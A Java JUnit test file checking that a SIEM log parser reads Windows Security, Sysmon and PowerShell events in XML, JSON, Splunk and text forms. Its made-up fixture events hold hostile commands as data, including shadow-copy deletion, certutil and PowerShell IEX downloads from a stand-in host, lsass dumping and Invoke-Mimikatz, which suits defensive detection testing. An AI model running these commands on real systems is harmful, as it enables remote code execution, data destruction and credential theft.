package io.cybershield.shield.gateway.triage.logs;

import org.junit.jupiter.api.Test;

import static io.cybershield.shield.gateway.triage.logs.ParsedLines.parsed;

/**
 * Windows Security, Sysmon and PowerShell events in each rendering a SIEM exports: XML, winlogbeat JSON, Splunk
 * pairs and text. The lines are written for these tests (hosts, users and addresses are made up).
 */
class WindowsLinesTest {

  private static final String SYSTEM = "<System><Provider Name='Microsoft-Windows-Security-Auditing'/>"
      + "<EventID>%s</EventID><Version>2</Version><Level>0</Level><Task>12544</Task>"
      + "<Keywords>0x8010000000000000</Keywords><TimeCreated SystemTime='2026-03-02T08:14:05.1234567Z'/>"
      + "<EventRecordID>88231</EventRecordID><Execution ProcessID='712' ThreadID='3320'/>"
      + "<Channel>Security</Channel><Computer>FS02.corp.example</Computer><Security/></System>";

  private static String security(String id, String data) {
    return "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>" + SYSTEM.formatted(id)
        + "<EventData>" + data + "</EventData></Event>";
  }

  @Test
  void failedLogonAsXml() {
    String line = security("4625", "<Data Name='SubjectUserSid'>S-1-0-0</Data><Data Name='SubjectUserName'>-</Data>"
        + "<Data Name='TargetUserName'>svc_backup</Data><Data Name='TargetDomainName'>CORP</Data>"
        + "<Data Name='Status'>0xc000006d</Data><Data Name='FailureReason'>%%2313</Data>"
        + "<Data Name='SubStatus'>0xc000006a</Data><Data Name='LogonType'>3</Data>"
        + "<Data Name='WorkstationName'>LAB-KALI</Data><Data Name='IpAddress'>198.51.100.23</Data>"
        + "<Data Name='IpPort'>50112</Data></EventData>");
    parsed(LogSource.AUTO, line).is(LogSource.WINDOWS_SECURITY, LogFormat.XML)
        .has("EventID", "4625").has("Channel", "Security").has("Provider", "Microsoft-Windows-Security-Auditing")
        .has("Computer", "FS02.corp.example").has("TargetUserName", "svc_backup").has("LogonType", "3")
        .has("IpAddress", "198.51.100.23").has("WorkstationName", "LAB-KALI").has("Status", "0xc000006d")
        .has("SubStatus", "0xc000006a").has("FailureReason", "%%2313").has("SubjectUserName", "-")
        .has("SystemTime", "2026-03-02T08:14:05.1234567Z");
  }

  @Test
  void processCreationAsXmlGetsSigmaNames() {
    String line = security("4688", "<Data Name='SubjectUserName'>jdoe</Data>"
        + "<Data Name='NewProcessName'>C:\\Windows\\System32\\vssadmin.exe</Data>"
        + "<Data Name='CommandLine'>vssadmin.exe delete shadows /all /quiet</Data>"
        + "<Data Name='ParentProcessName'>C:\\Windows\\System32\\cmd.exe</Data>"
        + "<Data Name='TokenElevationType'>%%1937</Data>");
    parsed(LogSource.WINDOWS_SECURITY, line).is(LogSource.WINDOWS_SECURITY, LogFormat.XML)
        .has("EventID", "4688").has("Image", "C:\\Windows\\System32\\vssadmin.exe")
        .has("NewProcessName", "C:\\Windows\\System32\\vssadmin.exe")
        .has("CommandLine", "vssadmin.exe delete shadows /all /quiet")
        .has("ParentImage", "C:\\Windows\\System32\\cmd.exe").has("SubjectUserName", "jdoe");
  }

  @Test
  void successfulLogonAndAccountCreationAsXml() {
    parsed(LogSource.AUTO, security("4624", "<Data Name='TargetUserName'>adm_kr</Data>"
        + "<Data Name='LogonType'>10</Data><Data Name='IpAddress'>10.20.3.44</Data>"))
        .has("EventID", "4624").has("LogonType", "10").has("TargetUserName", "adm_kr");
    parsed(LogSource.AUTO, security("4720", "<Data Name='TargetUserName'>helpdesk2</Data>"
        + "<Data Name='TargetSid'>S-1-5-21-1111111111-2222222222-3333333333-1604</Data>"
        + "<Data Name='SubjectUserName'>jdoe</Data><Data Name='SamAccountName'>helpdesk2</Data>"))
        .has("EventID", "4720").has("TargetUserName", "helpdesk2").has("SubjectUserName", "jdoe")
        .has("TargetSid", "S-1-5-21-1111111111-2222222222-3333333333-1604");
  }

  @Test
  void xmlEntitiesAreDecoded() {
    parsed(LogSource.AUTO, security("4688", "<Data Name='CommandLine'>cmd /c echo a &amp;&amp; type &quot;x&quot;"
        + " &gt; y &#x41;</Data>")).has("CommandLine", "cmd /c echo a && type \"x\" > y A");
  }

  @Test
  void aTruncatedXmlEventKeepsWhatCameBeforeTheCut() {
    String line = security("4625", "<Data Name='TargetUserName'>bob</Data><Data Name='IpAddress'>203.0.1");
    parsed(LogSource.AUTO, line.substring(0, line.length() - 20)).has("EventID", "4625").has("TargetUserName", "bob");
  }

  @Test
  void failedLogonAsWinlogbeatJson() {
    String line = "{\"@timestamp\":\"2026-03-02T08:14:05.123Z\",\"event\":{\"code\":\"4625\",\"provider\":"
        + "\"Microsoft-Windows-Security-Auditing\"},\"winlog\":{\"channel\":\"Security\",\"event_id\":4625,"
        + "\"computer_name\":\"FS02.corp.example\",\"provider_name\":\"Microsoft-Windows-Security-Auditing\","
        + "\"event_data\":{\"TargetUserName\":\"administrator\",\"LogonType\":\"3\",\"IpAddress\":\"203.0.113.77\","
        + "\"Status\":\"0xc000006d\",\"SubStatus\":\"0xc000006a\",\"WorkstationName\":\"-\"}},"
        + "\"host\":{\"name\":\"fs02\"}}";
    parsed(LogSource.AUTO, line).is(LogSource.WINDOWS_SECURITY, LogFormat.JSON)
        .has("EventID", "4625").has("Channel", "Security").has("Computer", "FS02.corp.example")
        .has("TargetUserName", "administrator").has("IpAddress", "203.0.113.77").has("LogonType", "3")
        .has("winlog.event_data.TargetUserName", "administrator").hasFirst("timestamp", "2026-03-02T08:14:05.123Z");
  }

  @Test
  void processCreationAndAccountCreationAsWinlogbeatJson() {
    parsed(LogSource.WINDOWS_SECURITY, "{\"winlog\":{\"channel\":\"Security\",\"event_id\":4688,\"event_data\":"
        + "{\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\whoami.exe\",\"CommandLine\":\"whoami /priv\","
        + "\"ParentProcessName\":\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\"}}}")
        .has("EventID", "4688").has("Image", "C:\\Windows\\System32\\whoami.exe").has("CommandLine", "whoami /priv")
        .has("ParentImage", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
    parsed(LogSource.AUTO, "{\"winlog\":{\"channel\":\"Security\",\"event_id\":4720,\"event_data\":"
        + "{\"TargetUserName\":\"svc-sql2\",\"SubjectUserName\":\"it-admin\"}}}")
        .has("EventID", "4720").has("TargetUserName", "svc-sql2").has("SubjectUserName", "it-admin");
  }

  @Test
  void failedLogonAsSplunkPairs() {
    String line = "LogName=Security EventCode=4625 EventType=0 ComputerName=FS02.corp.example "
        + "SourceName=Microsoft Windows security auditing. Type=Information RecordNumber=88231 Keywords=Audit Failure "
        + "TaskCategory=Logon OpCode=Info Message=An account failed to log on. Subject: Security ID: NULL SID "
        + "Account Name: - Account Domain: - Logon ID: 0x0 Logon Type: 3 Account For Which Logon Failed: "
        + "Security ID: NULL SID Account Name: bob Account Domain: CORP Failure Information: Failure Reason: "
        + "Unknown user name or bad password. Status: 0xC000006D Sub Status: 0xC000006A Process Information: "
        + "Caller Process ID: 0x0 Caller Process Name: - Network Information: Workstation Name: WS-0193 "
        + "Source Network Address: 198.51.100.23 Source Port: 50112 Detailed Authentication Information: "
        + "Logon Process: NtLmSsp Authentication Package: NTLM";
    parsed(LogSource.fromName("WinEventLog:Security").orElseThrow(), line)
        .is(LogSource.WINDOWS_SECURITY, LogFormat.KEY_VALUE)
        .has("EventID", "4625").has("Channel", "Security").has("Computer", "FS02.corp.example")
        .has("TargetUserName", "bob").has("SubjectUserName", "-").has("TargetDomainName", "CORP")
        .has("LogonType", "3").has("FailureReason", "Unknown user name or bad password.")
        .has("Status", "0xC000006D").has("SubStatus", "0xC000006A").has("WorkstationName", "WS-0193")
        .has("IpAddress", "198.51.100.23").has("IpPort", "50112").has("LogonProcessName", "NtLmSsp")
        .hasFirst("message", "An account failed to log on. Subject: Security ID: NULL SID Account Name: - "
            + "Account Domain: - Logon ID: 0x0 Logon Type: 3 Account For Which Logon Failed: Security ID: NULL SID "
            + "Account Name: bob Account Domain: CORP Failure Information: Failure Reason: Unknown user name or bad "
            + "password. Status: 0xC000006D Sub Status: 0xC000006A Process Information: Caller Process ID: 0x0 "
            + "Caller Process Name: - Network Information: Workstation Name: WS-0193 Source Network Address: "
            + "198.51.100.23 Source Port: 50112 Detailed Authentication Information: Logon Process: NtLmSsp "
            + "Authentication Package: NTLM");
  }

  @Test
  void processCreationAsSplunkPairs() {
    String line = "LogName=Security EventCode=4688 ComputerName=WS-0193.corp.example Message=A new process has been "
        + "created. Creator Subject: Security ID: CORP\\jdoe Account Name: jdoe Account Domain: CORP "
        + "Logon ID: 0x3E1A2F Target Subject: Security ID: NULL SID Account Name: - Process Information: "
        + "New Process ID: 0x1a2c New Process Name: C:\\Windows\\System32\\certutil.exe Token Elevation Type: "
        + "%%1938 Creator Process ID: 0x9f0 Creator Process Name: C:\\Windows\\System32\\cmd.exe "
        + "Process Command Line: certutil.exe -urlcache -split -f http://203.0.113.9/p.bin C:\\Users\\Public\\p.exe";
    parsed(LogSource.WINDOWS_SECURITY, line).has("EventID", "4688")
        .has("Image", "C:\\Windows\\System32\\certutil.exe").has("ParentImage", "C:\\Windows\\System32\\cmd.exe")
        .has("CommandLine", "certutil.exe -urlcache -split -f http://203.0.113.9/p.bin C:\\Users\\Public\\p.exe")
        .has("SubjectUserName", "jdoe");
  }

  @Test
  void accountCreatedAsText() {
    String line = "A user account was created. Subject: Security ID: CORP\\it-admin Account Name: it-admin "
        + "Account Domain: CORP Logon ID: 0x5A3F1 New Account: Security ID: CORP\\backup_svc2 Account Name: "
        + "backup_svc2 Account Domain: CORP Attributes: SAM Account Name: backup_svc2 Display Name: <value not set>";
    parsed(LogSource.AUTO, line).is(LogSource.WINDOWS_SECURITY, LogFormat.TEXT)
        .has("EventID", "4720").has("TargetUserName", "backup_svc2").has("SubjectUserName", "it-admin")
        .has("SamAccountName", "backup_svc2");
  }

  @Test
  void successfulLogonAsTextWithItsNumber() {
    String line = "4624 An account was successfully logged on. Subject: Security ID: SYSTEM Account Name: FS02$ "
        + "Logon Information: Logon Type: 10 New Logon: Security ID: CORP\\adm_kr Account Name: adm_kr "
        + "Account Domain: CORP Network Information: Workstation Name: JUMP01 Source Network Address: 10.20.3.44 "
        + "Source Port: 0";
    parsed(LogSource.WINDOWS_SECURITY, line).has("EventID", "4624").has("LogonType", "10")
        .has("TargetUserName", "adm_kr").has("SubjectUserName", "FS02$").has("IpAddress", "10.20.3.44")
        .has("WorkstationName", "JUMP01");
  }

  private static String sysmon(String id, String data) {
    return "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        + "<Provider Name='Microsoft-Windows-Sysmon' Guid='{00000000-0000-0000-0000-000000000000}'/>"
        + "<EventID>" + id + "</EventID><TimeCreated SystemTime='2026-03-02T09:01:44.5550000Z'/>"
        + "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS-0193.corp.example</Computer>"
        + "<Security UserID='S-1-5-18'/></System><EventData>" + data + "</EventData></Event>";
  }

  @Test
  void sysmonProcessCreation() {
    parsed(LogSource.AUTO, sysmon("1", "<Data Name='RuleName'>-</Data><Data Name='UtcTime'>2026-03-02 09:01:44.551"
        + "</Data><Data Name='Image'>C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe</Data>"
        + "<Data Name='OriginalFileName'>PowerShell.EXE</Data><Data Name='CommandLine'>powershell.exe -nop -w hidden "
        + "-enc SQBFAFgA</Data><Data Name='User'>CORP\\jdoe</Data><Data Name='Hashes'>SHA256=0F1E2D</Data>"
        + "<Data Name='ParentImage'>C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE</Data>"
        + "<Data Name='ParentCommandLine'>\"WINWORD.EXE\" /n invoice.docm</Data>"))
        .is(LogSource.SYSMON, LogFormat.XML).has("EventID", "1")
        .has("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
        .has("CommandLine", "powershell.exe -nop -w hidden -enc SQBFAFgA").has("OriginalFileName", "PowerShell.EXE")
        .has("ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE")
        .has("ParentCommandLine", "\"WINWORD.EXE\" /n invoice.docm").has("User", "CORP\\jdoe")
        .has("Hashes", "SHA256=0F1E2D").has("Computer", "WS-0193.corp.example");
  }

  @Test
  void sysmonNetworkConnection() {
    parsed(LogSource.SYSMON, sysmon("3", "<Data Name='Image'>C:\\Users\\jdoe\\AppData\\Local\\Temp\\up.exe</Data>"
        + "<Data Name='Protocol'>tcp</Data><Data Name='SourceIp'>10.20.5.17</Data><Data Name='SourcePort'>51544"
        + "</Data><Data Name='DestinationIp'>203.0.113.80</Data><Data Name='DestinationHostname'>cdn-upd.example"
        + "</Data><Data Name='DestinationPort'>4444</Data>"))
        .has("EventID", "3").has("DestinationIp", "203.0.113.80").has("DestinationPort", "4444")
        .has("DestinationHostname", "cdn-upd.example").has("SourceIp", "10.20.5.17");
  }

  @Test
  void sysmonProcessAccessToLsass() {
    parsed(LogSource.SYSMON, sysmon("10", "<Data Name='SourceImage'>C:\\Users\\Public\\procdump64.exe</Data>"
        + "<Data Name='TargetImage'>C:\\Windows\\system32\\lsass.exe</Data><Data Name='GrantedAccess'>0x1fffff"
        + "</Data><Data Name='CallTrace'>C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00007FF8A1B2C3D4)</Data>"))
        .has("EventID", "10").has("SourceImage", "C:\\Users\\Public\\procdump64.exe")
        .has("TargetImage", "C:\\Windows\\system32\\lsass.exe").has("GrantedAccess", "0x1fffff")
        .has("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00007FF8A1B2C3D4)");
  }

  @Test
  void sysmonFileCreateAndRegistry() {
    parsed(LogSource.SYSMON, sysmon("11", "<Data Name='Image'>C:\\Windows\\System32\\svchost.exe</Data>"
        + "<Data Name='TargetFilename'>C:\\Users\\jdoe\\Documents\\report.docx.lockbit</Data>"))
        .has("EventID", "11").has("TargetFilename", "C:\\Users\\jdoe\\Documents\\report.docx.lockbit");
    parsed(LogSource.SYSMON, sysmon("13", "<Data Name='EventType'>SetValue</Data><Data Name='Image'>"
        + "C:\\Users\\jdoe\\AppData\\Roaming\\upd.exe</Data><Data Name='TargetObject'>HKU\\S-1-5-21-1-2-3-1001\\"
        + "Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater</Data><Data Name='Details'>"
        + "C:\\Users\\jdoe\\AppData\\Roaming\\upd.exe</Data>"))
        .has("EventID", "13").has("EventType", "SetValue")
        .has("TargetObject", "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater")
        .has("Details", "C:\\Users\\jdoe\\AppData\\Roaming\\upd.exe");
  }

  @Test
  void sysmonAsJson() {
    parsed(LogSource.AUTO, "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":10,"
        + "\"provider_name\":\"Microsoft-Windows-Sysmon\",\"event_data\":{\"SourceImage\":\"C:\\\\Temp\\\\m.exe\","
        + "\"TargetImage\":\"C:\\\\Windows\\\\system32\\\\lsass.exe\",\"GrantedAccess\":\"0x1010\"}}}")
        .is(LogSource.SYSMON, LogFormat.JSON).has("EventID", "10").has("GrantedAccess", "0x1010")
        .has("TargetImage", "C:\\Windows\\system32\\lsass.exe");
    parsed(LogSource.SYSMON, "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":1,"
        + "\"event_data\":{\"Image\":\"C:\\\\Windows\\\\System32\\\\rundll32.exe\",\"CommandLine\":"
        + "\"rundll32.exe C:\\\\Users\\\\Public\\\\x.dll,Start\"}}}")
        .has("EventID", "1").has("CommandLine", "rundll32.exe C:\\Users\\Public\\x.dll,Start");
    parsed(LogSource.SYSMON, "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":3,"
        + "\"event_data\":{\"DestinationIp\":\"198.51.100.9\",\"DestinationPort\":\"8443\"}}}")
        .has("DestinationIp", "198.51.100.9").has("DestinationPort", "8443");
    parsed(LogSource.SYSMON, "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":11,"
        + "\"event_data\":{\"TargetFilename\":\"C:\\\\ProgramData\\\\a.ps1\"}}}")
        .has("EventID", "11").has("TargetFilename", "C:\\ProgramData\\a.ps1");
    parsed(LogSource.SYSMON, "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":13,"
        + "\"event_data\":{\"TargetObject\":\"HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\x\\\\ImagePath\","
        + "\"Details\":\"C:\\\\x.exe\",\"EventType\":\"SetValue\"}}}")
        .has("EventID", "13").has("TargetObject", "HKLM\\System\\CurrentControlSet\\Services\\x\\ImagePath");
  }

  @Test
  void powershellScriptBlock() {
    String line = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        + "<Provider Name='Microsoft-Windows-PowerShell'/><EventID>4104</EventID><Level>5</Level>"
        + "<Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>WS-0193</Computer></System>"
        + "<EventData><Data Name='MessageNumber'>1</Data><Data Name='MessageTotal'>1</Data>"
        + "<Data Name='ScriptBlockText'>$c = New-Object Net.WebClient; IEX $c.DownloadString('http://203.0.113.9/a')"
        + "</Data><Data Name='ScriptBlockId'>5c1d2e3f-aaaa-bbbb-cccc-1234567890ab</Data><Data Name='Path'></Data>"
        + "</EventData></Event>";
    parsed(LogSource.AUTO, line).is(LogSource.POWERSHELL, LogFormat.XML).has("EventID", "4104")
        .has("ScriptBlockText", "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://203.0.113.9/a')")
        .has("Path", "");
  }

  @Test
  void powershellClassicHostApplication() {
    String line = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        + "<Provider Name='PowerShell'/><EventID Qualifiers='0'>400</EventID><Channel>Windows PowerShell</Channel>"
        + "</System><EventData><Data>Available</Data><Data>None</Data><Data>NewEngineState=Available "
        + "PreviousEngineState=None SequenceNumber=13 HostName=ConsoleHost HostVersion=5.1 "
        + "HostApplication=powershell.exe -ExecutionPolicy Bypass -File C:\\ops\\inventory.ps1 EngineVersion=5.1"
        + "</Data></EventData></Event>";
    parsed(LogSource.POWERSHELL, line).has("EventID", "400")
        .has("HostApplication", "powershell.exe -ExecutionPolicy Bypass -File C:\\ops\\inventory.ps1");
  }

  @Test
  void serviceInstalledOnTheSystemChannel() {
    String line = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        + "<Provider Name='Service Control Manager' EventSourceName='Service Control Manager'/>"
        + "<EventID Qualifiers='16384'>7045</EventID><Channel>System</Channel><Computer>FS02.corp.example</Computer>"
        + "</System><EventData><Data Name='ServiceName'>WinUpdSvc</Data><Data Name='ImagePath'>%COMSPEC% /c "
        + "powershell -nop -w hidden -c IEX(iwr http://203.0.113.9/s)</Data><Data Name='ServiceType'>user mode "
        + "service</Data><Data Name='StartType'>auto start</Data><Data Name='AccountName'>LocalSystem</Data>"
        + "</EventData></Event>";
    parsed(LogSource.AUTO, line).is(LogSource.WINDOWS_SYSTEM, LogFormat.XML).has("EventID", "7045")
        .has("Provider", "Service Control Manager").has("ServiceName", "WinUpdSvc")
        .has("ImagePath", "%COMSPEC% /c powershell -nop -w hidden -c IEX(iwr http://203.0.113.9/s)")
        .has("ServiceType", "user mode service").has("StartType", "auto start").has("AccountName", "LocalSystem");
  }

  @Test
  void aSyslogLineWithLabelsIsNotTakenForWindows() {
    parsed(LogSource.AUTO, "Mar  3 10:00:00 nas-1 smartd[77]: 1234 Device: /dev/sda Status: ok Port: 3")
        .is(LogSource.LINUX_SYSLOG, LogFormat.SYSLOG).lacks("EventID");
  }

  @Test
  void anXmlEventForwardedOverSyslog() {
    parsed(LogSource.AUTO, "Mar  2 08:14:05 fs02 Microsoft-Windows-Security-Auditing: " + security("4625",
        "<Data Name='TargetUserName'>svc_backup</Data><Data Name='IpAddress'>198.51.100.23</Data>"))
        .is(LogSource.WINDOWS_SECURITY, LogFormat.XML).has("EventID", "4625").has("TargetUserName", "svc_backup")
        .has("host", "fs02");
  }

  @Test
  void serviceInstalledAsTextAndScriptBlockAsJson() {
    parsed(LogSource.AUTO, "A service was installed in the system. Service Name: WinUpdSvc Service File Name: "
        + "C:\\Users\\Public\\svc.exe Service Type: user mode service Service Start Type: auto start "
        + "Service Account: LocalSystem")
        .is(LogSource.WINDOWS_SYSTEM, LogFormat.TEXT).has("EventID", "7045").has("ServiceName", "WinUpdSvc")
        .has("ImagePath", "C:\\Users\\Public\\svc.exe").has("StartType", "auto start")
        .has("AccountName", "LocalSystem");
    parsed(LogSource.AUTO, "{\"winlog\":{\"channel\":\"Microsoft-Windows-PowerShell/Operational\",\"event_id\":4104,"
        + "\"event_data\":{\"ScriptBlockText\":\"Invoke-Mimikatz -DumpCreds\"}}}")
        .is(LogSource.POWERSHELL, LogFormat.JSON).has("EventID", "4104")
        .has("ScriptBlockText", "Invoke-Mimikatz -DumpCreds");
  }
}
